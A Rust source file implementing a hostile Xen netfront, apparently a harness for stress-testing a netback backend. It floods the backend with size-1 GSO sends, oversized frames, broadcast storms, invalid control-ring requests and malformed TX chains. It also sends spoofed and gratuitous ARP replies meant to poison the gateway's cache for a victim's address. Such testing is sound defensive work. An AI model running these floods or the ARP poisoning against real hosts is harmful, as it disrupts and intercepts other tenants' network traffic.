//! A netif frontend that attacks: it connects as netfront would (receive-copy, rx-notify,
//! scatter-gather, GSO, a control ring), then sends what no real stack sends.

use std::time::{Duration, Instant};

use bulkhead_netback::abi::*;
use bulkhead_netback::queue::{RX_LAYOUT, TX_LAYOUT};
use bulkhead_netback::tx::TxSlot;
use bulkhead_ring::{shared_init, FrontRing};

use crate::xen::{Events, Granted, Grants, Page, Result, Xs};

pub struct Vif {
    pub fe: String,
    pub be: String,
    pub mac: [u8; 6],
    rings: Granted,
    tx: Page,
    rx: Page,
    txf: FrontRing,
    rxf: FrontRing,
    ctrl: Option<(Page, FrontRing, u32)>,
    port: u32,
    /// Pages packet data is sent from (granted read-only).
    data: Granted,
    next_id: u16,
}

fn parse_mac(s: &str) -> Option<[u8; 6]> {
    let mut m = [0u8; 6];
    let mut it = s.split(':');
    for b in m.iter_mut() {
        *b = u8::from_str_radix(it.next()?, 16).ok()?;
    }
    Some(m)
}

pub fn connect(xs: &mut Xs, g: &Grants, ev: &Events, devid: u32, ctrl: bool) -> Result<Vif> {
    let (fe, be, backend) = xs.ends("vif", devid)?;
    let mac = xs
        .read(&format!("{fe}/mac"))
        .and_then(|m| parse_mac(&m))
        .ok_or("no mac")?;
    xs.restart(&fe, &be)?;
    let mut rings = g.alloc(backend, 3, true)?;
    let data = g.alloc(backend, 18, false)?;
    let mut tx = Page(rings.base);
    let mut rx = Page(rings.page(1).as_mut_ptr());
    shared_init(&mut tx);
    shared_init(&mut rx);
    let txf = FrontRing::new(&tx, TX_LAYOUT);
    let rxf = FrontRing::new(&rx, RX_LAYOUT);
    let port = ev.unbound(backend)?;
    let w = |xs: &mut Xs, k: &str, v: String| xs.write_str(&format!("{fe}/{k}"), &v);
    w(xs, "tx-ring-ref", rings.grefs[0].to_string())?;
    w(xs, "rx-ring-ref", rings.grefs[1].to_string())?;
    w(xs, "event-channel", port.to_string())?;
    for k in [
        "request-rx-copy",
        "feature-rx-notify",
        "feature-sg",
        "feature-gso-tcpv4",
    ] {
        w(xs, k, "1".into())?;
    }
    let ctrl = if ctrl {
        let mut c = Page(rings.page(2).as_mut_ptr());
        shared_init(&mut c);
        let f = FrontRing::new(&c, bulkhead_netback::ctrl::LAYOUT);
        let p = ev.unbound(backend)?;
        w(xs, "ctrl-ring-ref", rings.grefs[2].to_string())?;
        w(xs, "event-channel-ctrl", p.to_string())?;
        Some((c, f, p))
    } else {
        xs.rm(&format!("{fe}/ctrl-ring-ref"));
        xs.rm(&format!("{fe}/event-channel-ctrl"));
        None
    };
    w(xs, "state", "4".into())?;
    if !xs.wait(&format!("{be}/state"), 30, |s| s == Some("4")) {
        return Err("backend did not connect".into());
    }
    Ok(Vif {
        fe,
        be,
        mac,
        rings,
        tx,
        rx,
        txf,
        rxf,
        ctrl,
        port,
        data,
        next_id: 0,
    })
}

/// A TCP/IPv4 frame of `len` bytes from `src` to `dst` with 40 bytes of IP options and
/// 40 of TCP options (134 header bytes), checksum left blank.
pub fn tcp_frame(dst: [u8; 6], src: [u8; 6], len: usize) -> Vec<u8> {
    let mut f = vec![0u8; len.max(134)];
    f[..6].copy_from_slice(&dst);
    f[6..12].copy_from_slice(&src);
    f[12] = 0x08;
    f[14] = 0x4f; // IPv4, 60-byte header
    let ip_len = (f.len() - 14) as u16;
    f[16..18].copy_from_slice(&ip_len.to_be_bytes());
    f[22] = 64;
    f[23] = 6;
    f[26..30].copy_from_slice(&[10, 0, 2, 99]);
    f[30..34].copy_from_slice(&[10, 0, 2, 2]);
    for o in &mut f[34..74] {
        *o = 1; // IP NOPs
    }
    let t = 74;
    f[t..t + 2].copy_from_slice(&40000u16.to_be_bytes());
    f[t + 2..t + 4].copy_from_slice(&9u16.to_be_bytes());
    f[t + 12] = 15 << 4; // 60-byte TCP header
    f[t + 13] = 0x18;
    for o in &mut f[t + 20..t + 60] {
        *o = 1; // TCP NOPs
    }
    f
}

impl Vif {
    /// Queue one packet on the TX ring: its bytes copied into the data pages, one slot
    /// per page, and an extra-info slot for GSO. False if the ring has no room.
    pub fn put(&mut self, frame: &[u8], flags: u16, gso: Option<(u16, u8)>) -> bool {
        let pages = frame.len().div_ceil(4096).max(1);
        if self.txf.free() < (pages + gso.is_some() as usize) as u32 || pages > self.data.pages {
            return false;
        }
        for (i, chunk) in frame.chunks(4096).enumerate() {
            self.data.page(i)[..chunk.len()].copy_from_slice(chunk);
        }
        for i in 0..pages {
            let size = if i == 0 {
                frame.len()
            } else {
                (frame.len() - i * 4096).min(4096)
            };
            let mut fl = if i + 1 < pages { NETTXF_MORE_DATA } else { 0 };
            if i == 0 {
                fl |= flags;
                if gso.is_some() {
                    fl |= NETTXF_EXTRA_INFO;
                }
            }
            self.next_id = self.next_id.wrapping_add(1);
            let s = TxSlot {
                gref: self.data.grefs[i],
                offset: 0,
                flags: fl,
                id: self.next_id % 256,
                size: size as u16,
            };
            self.txf.put(&mut self.tx, &s.encode());
            if i == 0 {
                if let Some((size, kind)) = gso {
                    let mut e = [0u8; 12];
                    e[0] = EXTRA_TYPE_GSO;
                    e[2..4].copy_from_slice(&size.to_le_bytes());
                    e[4] = kind;
                    self.txf.put(&mut self.tx, &e);
                }
            }
        }
        true
    }

    pub fn kick(&mut self, ev: &Events) {
        self.txf.publish(&mut self.tx);
        self.rxf.publish(&mut self.rx);
        ev.notify(self.port);
    }

    /// Take TX responses: counts of (okay, error or dropped).
    pub fn tx_answers(&mut self) -> (u64, u64) {
        let (mut ok, mut bad) = (0, 0);
        while let Some(r) = self.txf.get(&self.tx) {
            match i16::from_le_bytes([r[2], r[3]]) {
                RSP_OKAY | RSP_NULL => ok += 1,
                _ => bad += 1,
            }
        }
        (ok, bad)
    }

    pub fn close(self, xs: &mut Xs, g: &Grants) {
        xs.close_frontend(&self.fe, &self.be);
        g.free(self.rings);
        g.free(self.data);
    }

    fn alive(&self, xs: &mut Xs) -> bool {
        xs.read(&format!("{}/state", self.be)).as_deref() == Some("4")
    }
}

/// Send `make()`'s frames as fast as the ring takes them for `secs` seconds.
fn blast(
    xs: &mut Xs,
    g: &Grants,
    ev: &Events,
    devid: u32,
    secs: u64,
    what: &str,
    make: impl Fn(&Vif) -> (Vec<u8>, u16, Option<(u16, u8)>),
) -> Result<String> {
    let mut v = connect(xs, g, ev, devid, false)?;
    let end = Instant::now() + Duration::from_secs(secs);
    let (mut sent, mut ok, mut bad) = (0u64, 0u64, 0u64);
    while Instant::now() < end {
        let (f, flags, gso) = make(&v);
        while v.put(&f, flags, gso) {
            sent += 1;
        }
        v.kick(ev);
        let (o, b) = v.tx_answers();
        ok += o;
        bad += b;
        std::thread::sleep(Duration::from_millis(1));
    }
    std::thread::sleep(Duration::from_millis(500));
    let (o, b) = v.tx_answers();
    let alive = v.alive(xs);
    v.close(xs, g);
    Ok(format!(
        "{what}: {sent} packets in {secs} s, {} slot answers okay, {} refused; backend still connected: {alive}",
        ok + o,
        bad + b
    ))
}

/// Large sends with segment size 1 and maximal headers, to broadcast and to `dst`.
pub fn gso1(
    xs: &mut Xs,
    g: &Grants,
    ev: &Events,
    devid: u32,
    secs: u64,
    dst: [u8; 6],
) -> Result<String> {
    let mut n = 0u32;
    let c = std::cell::Cell::new(0u32);
    let r = blast(xs, g, ev, devid, secs, "GSO size 1, 60 KB sends", |v| {
        c.set(c.get() + 1);
        let to = if c.get().is_multiple_of(2) {
            [0xff; 6]
        } else {
            dst
        };
        (
            tcp_frame(to, v.mac, 60_000),
            NETTXF_CSUM_BLANK,
            Some((1, GSO_TYPE_TCPV4)),
        )
    });
    n += c.get();
    r.map(|s| format!("{s} ({n} batches)"))
}

/// 64 KiB frames without GSO, broadcast.
pub fn jumbo(xs: &mut Xs, g: &Grants, ev: &Events, devid: u32, secs: u64) -> Result<String> {
    blast(xs, g, ev, devid, secs, "64 KiB frames without GSO", |v| {
        (tcp_frame([0xff; 6], v.mac, 65_535), 0, None)
    })
}

/// Broadcast ARP requests as fast as possible, half of them with a spoofed source MAC
/// (the victim's, when known) and some 802.1Q-tagged.
#[allow(clippy::too_many_arguments)] // what the victim's dom0 line names, as it names it
pub fn storm(
    xs: &mut Xs,
    g: &Grants,
    ev: &Events,
    devid: u32,
    secs: u64,
    victim: [u8; 6],
    victim_ip: [u8; 4],
    gateway: [u8; 6],
) -> Result<String> {
    let c = std::cell::Cell::new(0u32);
    blast(
        xs,
        g,
        ev,
        devid,
        secs,
        "broadcast storm, spoofed and tagged frames, ARP claims for the victim's address",
        |v| {
            c.set(c.get() + 1);
            let f = match c.get() % 4 {
                // 802.1Q-tagged broadcast.
                0 => {
                    let mut f = arp(2, [0xff; 6], v.mac, victim_ip);
                    f.splice(12..12, [0x81, 0x00, 0x00, 0x05]);
                    f.truncate(60);
                    f
                }
                // The victim's MAC as source.
                1 => arp(1, [0xff; 6], victim, [10, 0, 2, 99]),
                // Gratuitous ARP replies: "the victim's address is at my MAC", to all
                // and to the gateway (whose cache would send the victim's traffic here).
                2 => arp(2, [0xff; 6], v.mac, victim_ip),
                _ => arp(2, gateway, v.mac, victim_ip),
            };
            (f, 0, None)
        },
    )
}

/// An ARP packet (`op` 1 request, 2 reply) from `mac` claiming `ip`, to `dst`, asking
/// for (or telling) the gateway 10.0.2.2.
fn arp(op: u8, dst: [u8; 6], mac: [u8; 6], ip: [u8; 4]) -> Vec<u8> {
    let mut f = vec![0u8; 60];
    f[..6].copy_from_slice(&dst);
    f[6..12].copy_from_slice(&mac);
    f[12..14].copy_from_slice(&[0x08, 0x06]);
    f[14..22].copy_from_slice(&[0, 1, 8, 0, 6, 4, 0, op]);
    f[22..28].copy_from_slice(&mac);
    f[28..32].copy_from_slice(&ip);
    f[32..38].copy_from_slice(&dst);
    f[38..42].copy_from_slice(&[10, 0, 2, 2]);
    f
}

/// An ARP request from `mac`/10.0.2.99 asking for `ip`, to `dst`.
fn arp_request(dst: [u8; 6], mac: [u8; 6], ip: [u8; 4]) -> Vec<u8> {
    let mut f = vec![0u8; 60];
    f[..6].copy_from_slice(&dst);
    f[6..12].copy_from_slice(&mac);
    f[12..14].copy_from_slice(&[0x08, 0x06]);
    f[14..22].copy_from_slice(&[0, 1, 8, 0, 6, 4, 0, 1]);
    f[22..28].copy_from_slice(&mac);
    f[28..32].copy_from_slice(&[10, 0, 2, 99]);
    f[38..42].copy_from_slice(&ip);
    f
}

/// A vif that posts no receive buffers while packets come for it, for `secs`: it asks
/// the victim for its address every 100 ms, and every answer waits for buffers that never
/// come. The backend must turn its carrier off (and drop what waits), not hold it all.
pub fn norx(
    xs: &mut Xs,
    g: &Grants,
    ev: &Events,
    devid: u32,
    secs: u64,
    victim: [u8; 6],
    ip: [u8; 4],
) -> Result<String> {
    let mut v = connect(xs, g, ev, devid, false)?;
    let f = arp_request(victim, v.mac, ip);
    let end = Instant::now() + Duration::from_secs(secs);
    let mut sent = 0;
    while Instant::now() < end {
        if v.put(&f, 0, None) {
            sent += 1;
        }
        v.kick(ev);
        v.tx_answers();
        std::thread::sleep(Duration::from_millis(100));
    }
    let connected = v.alive(xs);
    v.close(xs, g);
    Ok(format!("{sent} ARP requests to the victim, no receive buffers for {secs} s; backend still connected: {connected}"))
}

/// Invalid control-ring requests kept coming for `secs`.
pub fn ctrl(xs: &mut Xs, g: &Grants, ev: &Events, devid: u32, secs: u64) -> Result<String> {
    let mut v = connect(xs, g, ev, devid, true)?;
    let (mut page, mut f, port) = v.ctrl.take().ok_or("no control ring")?;
    let end = Instant::now() + Duration::from_secs(secs);
    let mut answers = 0u64;
    while Instant::now() < end {
        while f.get(&page).is_some() {
            answers += 1;
        }
        while f.free() > 0 {
            let mut r = [0u8; 16];
            r[2..4].copy_from_slice(&bulkhead_netback::ctrl::TYPE_SET_HASH_MAPPING.to_le_bytes());
            r[4..8].copy_from_slice(&u32::MAX.to_le_bytes());
            r[8..12].copy_from_slice(&u32::MAX.to_le_bytes());
            f.put(&mut page, &r);
        }
        f.publish(&mut page);
        ev.notify(port);
    }
    let alive = v.alive(xs);
    v.close(xs, g);
    Ok(format!("{answers} control-ring answers to invalid requests in {secs} s; backend still connected: {alive}"))
}

/// TX chains that break the ring format: 21 slots, unterminated more_data, a slot
/// crossing its page. Each costs this vif's queue (Linux's fatal error), nothing else;
/// the caller checks the victim and the driver domain.
pub fn chains(xs: &mut Xs, g: &Grants, ev: &Events, devid: u32) -> Result<String> {
    for case in 0..3 {
        let mut v = connect(xs, g, ev, devid, false)?;
        let slots: Vec<TxSlot> = match case {
            0 => (0..21)
                .map(|i| TxSlot {
                    gref: v.data.grefs[i % 18],
                    offset: 0,
                    flags: if i < 20 { NETTXF_MORE_DATA } else { 0 },
                    id: i as u16,
                    size: if i == 0 { 2100 } else { 100 },
                })
                .collect(),
            1 => vec![TxSlot {
                gref: v.data.grefs[0],
                offset: 0,
                flags: NETTXF_MORE_DATA,
                id: 1,
                size: 200,
            }],
            _ => vec![
                TxSlot {
                    gref: v.data.grefs[0],
                    offset: 0,
                    flags: NETTXF_MORE_DATA,
                    id: 1,
                    size: 3000,
                },
                TxSlot {
                    gref: v.data.grefs[1],
                    offset: 4000,
                    flags: 0,
                    id: 2,
                    size: 1000,
                },
            ],
        };
        for s in &slots {
            v.txf.put(&mut v.tx, &s.encode());
        }
        v.kick(ev);
        std::thread::sleep(Duration::from_secs(2));
        v.close(xs, g);
    }
    Ok("3 broken TX chains sent (21 slots, unterminated, crossing a page)".into())
}
